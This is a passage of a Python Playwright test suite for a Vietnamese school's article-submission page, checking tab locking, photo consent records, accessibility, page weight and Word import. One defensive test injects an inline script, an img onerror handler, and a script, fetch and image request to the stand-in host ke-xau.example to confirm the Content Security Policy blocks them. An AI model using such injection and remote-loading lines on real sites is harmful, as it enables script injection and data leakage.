    assert second.get_by_text("Bài này đang mở ở một thẻ khác").is_visible()
    assert second.evaluate("document.querySelector('form[data-write]').inert")
    first.locator("[name=title]").fill("Bài thứ nhất, sửa")
    one.until(KEPT, "Bài thứ nhất, sửa")
    second.get_by_role("button", name="Viết ở đây").click()
    wait_until(second, "!document.querySelector('form[data-write]').inert")
    assert second.locator("[name=title]").input_value() == "Bài thứ nhất, sửa"
    assert first.get_by_text("Bài này đang mở ở một thẻ khác").is_visible()
    second.locator("[name=title]").fill("Bài viết ở thẻ thứ hai")
    one.until(KEPT, "Bài viết ở thẻ thứ hai")
    first.close()
    second.close()
    assert one.open().locator("[name=title]").input_value() == "Bài viết ở thẻ thứ hai"


@needs_bundle
def test_a_photo_may_have_a_consent_of_its_own(someone, site, tmp_path):
    one = someone(**PHONE)
    page = one.open()
    one.fill()
    one.fill_photos(*PHOTOS)
    page.get_by_label("Hình 2 có giấy đồng ý riêng").check()
    assert "Ghi ngày đồng ý của hình 2." in one.mistakes()
    page.locator("[name$='.consent.ref']").nth(0).fill("Sổ đồng ý số 13")
    page.locator("[name$='.consent.date']").fill("2026-10-16")
    page.get_by_text(re.compile("Đang chọn: Thứ Sáu.*16 tháng 10.*2026")).wait_for()
    page.locator("[name$='.consent.child_agreed']").check()
    assert one.mistakes() == []
    one.send()
    text = Sheet(one.download()[1].decode()).data["text"]
    consents = yaml.safe_load(text.split("---\n")[1])["consent"]
    assert [consent["ref"] for consent in consents] == ["Sổ đồng ý số 12", "Sổ đồng ý số 13"]
    assert [len(consent.get("pictures", [])) for consent in consents] == [0, 1]


# ---- The page ----

FIT = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
STATES = {
    "empty": lambda one: None,
    "with mistakes": lambda one: one.page.locator("[data-write-send]").click(),
    "filled, with photos": lambda one: (one.fill(), one.fill_photos(*PHOTOS)),
    "preview": lambda one: (one.fill(), one.fill_photos(PHOTOS[1]), one.page.locator("[data-write-preview]").click()),
    "sent": lambda one: (one.fill(), one.fill_photos(PHOTOS[1]), one.send()),
}


@needs_bundle
@pytest.mark.parametrize("scheme", ["light", pytest.param("dark", marks=pytest.mark.long)])
def test_every_state_is_accessible_and_fits_320_px(someone, scheme):
    """axe-core with WCAG 2.2's size of targets; no sideways scrolling, nor with letters twice as large."""
    found = {}
    for state, lead in STATES.items():
        one = someone(viewport={"width": 320, "height": 700}, color_scheme=scheme)
        page = one.open()
        lead(one)
        page.wait_for_timeout(350)  # colours fade in
        violations = Axe().run(page, options=AXE).response["violations"]
        wrong = [f"{rule['id']}: {node['html'][:160]} {node['any'][:1]}" for rule in violations for node in rule["nodes"][:3]]
        wrong += [f"hidden, but seen: {place.inner_text()}" for place in page.locator("[hidden]:visible").all()]
        if not page.evaluate(FIT):
            wrong.append("scrolls sideways")
        page.set_viewport_size({"width": 640, "height": 700})
        page.evaluate("document.documentElement.style.fontSize = '250%'")  # the theme's own is 125 %
        if not page.evaluate(FIT):
            wrong.append("scrolls sideways at 200 %")
        found[state] = wrong
    assert {state: wrong for state, wrong in found.items() if wrong} == {}


@needs_bundle
def test_only_the_scripts_of_the_site_run_on_the_page(browser, home):
    one = teacher(browser, home)
    page = one.open()
    for attempt in (
        "const s = document.createElement('script'); s.textContent = 'window.hit = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"data:,\" onerror=\"window.hit = 1\">')",
        "const s = document.createElement('script'); s.src = 'https://ke-xau.example/a.js'; document.body.append(s)",
        "fetch('https://ke-xau.example/').catch(() => {})",
        "new Image().src = 'https://ke-xau.example/a.png'",
    ):
        page.evaluate(attempt)
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert len([text for text in one.said if "Content Security Policy" in text]) >= 5
    one.context.close()


@needs_bundle
def test_the_page_weighs_little_and_no_other_page_more(browser, serve, site):
    """250 KB with editor, fonts and data, heads counted in; ``-s`` shows the figures."""

    class Counting(Gzipping):
        answers: list[tuple[str, int]] = []

    one = teacher(browser, serve(site, Counting), **PHONE)
    one.open().wait_for_load_state("networkidle")
    one.fill()
    one.send()
    one.context.close()
    sizes = sorted(Counting.answers, key=lambda answer: -answer[1])
    print("\n".join((f"\n{sum(size for _, size in sizes):,} bytes", *(f"{size:8,} {path}" for path, size in sizes))))
    assert sum(size for _, size in sizes) <= WEIGHT
    carrying = [
        file.relative_to(site.site()).as_posix()
        for file in site.site().rglob("*.html")
        if re.search(r"writing\.css|/writing/", file.read_text("utf-8"))
    ]
    assert carrying == ["viet-bai/index.html"]


@needs_bundle
def test_a_word_file_fills_the_form(someone):
    """With its headings, its list, its table and its picture; a file that is none is told in words."""
    document = docx.Document()
    document.add_heading("Bữa cơm đổi vai", 0)
    document.add_paragraph("Sáng thứ bảy, bếp trường đỏ lửa.")
    document.add_heading("Trước giờ nấu", 1)
    document.add_paragraph("Nhặt rau", style="List Bullet")
    document.add_picture(io.BytesIO(drawn((900, 600))))
    table = document.add_table(2, 2)
    for cell, text in zip((cell for row in table.rows for cell in row.cells), ("Việc", "Ai", "Nấu", "Bố"), strict=True):
        cell.text = text
    file = io.BytesIO()
    document.save(file)
    one = someone(viewport={"width": 800, "height": 800})
    page = one.open()
    page.locator("[data-write-word]").set_input_files({"name": "bai.docx", "mimeType": "", "buffer": file.getvalue()})
    page.get_by_text("Đã lấy bài từ “bai.docx”").wait_for()
    assert page.locator("[name=title]").input_value() == "Bữa cơm đổi vai"
    text = page.locator(EDITOR)
    assert text.locator("h2").inner_text() == "Trước giờ nấu" and text.locator("li").inner_text() == "Nhặt rau"
    assert text.locator("th").all_inner_texts() == ["Việc", "Ai"] and text.locator("td").all_inner_texts() == ["Nấu", "Bố"]
    assert text.locator("figure img").count() == 1 and page.locator("[data-write-photos] > li").count() == 1
    page.on("dialog", lambda dialog: dialog.accept())
    page.locator("[data-write-word]").set_input_files({"name": "bai.pdf", "mimeType": "", "buffer": b"%PDF-1.4"})
    page.get_by_text("“bai.pdf” không phải tệp .docx").wait_for()
    page.locator("[data-write-word]").set_input_files({"name": "hong.docx", "mimeType": "", "buffer": b"PK\x03\x04 hong"})
    page.get_by_text("Không mở được “hong.docx”").wait_for()
    assert page.locator(f"{EDITOR} h2").inner_text() == "Trước giờ nấu", "what was written is still there"
